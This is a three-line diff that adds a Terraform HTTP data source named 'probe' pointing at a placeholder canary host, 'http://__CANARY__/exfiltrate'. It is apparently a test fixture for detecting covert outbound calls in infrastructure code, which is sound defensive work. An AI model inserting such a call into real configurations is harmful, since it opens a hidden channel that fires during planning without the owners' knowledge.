@@ -1,0 +1,3 @@
+data "http" "probe" {
+  url = "http://__CANARY__/exfiltrate"
+}
